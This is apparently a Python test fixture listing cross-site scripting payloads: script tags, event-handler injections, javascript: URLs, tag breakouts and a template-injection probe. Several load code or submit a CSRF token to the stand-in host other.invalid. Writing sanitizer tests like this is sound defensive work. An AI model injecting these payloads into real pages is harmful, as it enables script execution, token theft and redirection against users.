"""Texts that would run if any page put them anywhere but into text. All of them end in alert."""

from __future__ import annotations

FOREIGN = "//other.invalid"

PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//other.invalid/x.js></script>",
    "<img src=x onerror=alert(2)>",
    "<img src=//other.invalid/pixel.gif>",
    "<svg onload=alert(3)>",
    "<svg><animate onbegin=alert(4) attributeName=x dur=1s>",
    "<svg><script>alert(5)</script></svg>",
    "<math><mtext></table></math><img src=x onerror=alert(6)>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'></iframe>",
    "<iframe src=javascript:alert(8)></iframe>",
    "<object data='data:text/html,<script>alert(9)</script>'></object>",
    "<embed src=//other.invalid/x.swf>",
    "<a href='javascript:alert(10)'>se her</a>",
    "<form action=//other.invalid/><input name=csrf_token><button>ok</button></form>",
    "<details open ontoggle=alert(11)>",
    "<input autofocus onfocus=alert(12)>",
    "<video><source onerror=alert(13)></video>",
    "<style>@import '//other.invalid/x.css';</style>",
    "<link rel=stylesheet href=//other.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//other.invalid/'>",
    "<base href=//other.invalid/>",
    '"><img src=x onerror=alert(14)>',
    "' onmouseover='alert(15)' autofocus onfocus='alert(15)",
    '" onfocus="alert(16)" autofocus="" x="',
    "</textarea><script>alert(17)</script>",
    "</title><script>alert(18)</script>",
    "--></script><script>alert(19)</script>",
    "</p></li></ol></section><script>alert(20)</script>",
    "{{ 7*7 }}{% print('alert') %}${7*7}#{7*7}",
    "javascript:alert(21)",
    "&lt;img src=x onerror=alert(22)&gt;",
    "<template><img src=x onerror=alert(23)></template><slot onslotchange=alert(23)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(24)>'>",
    "<b>bagvendt</b>",
)
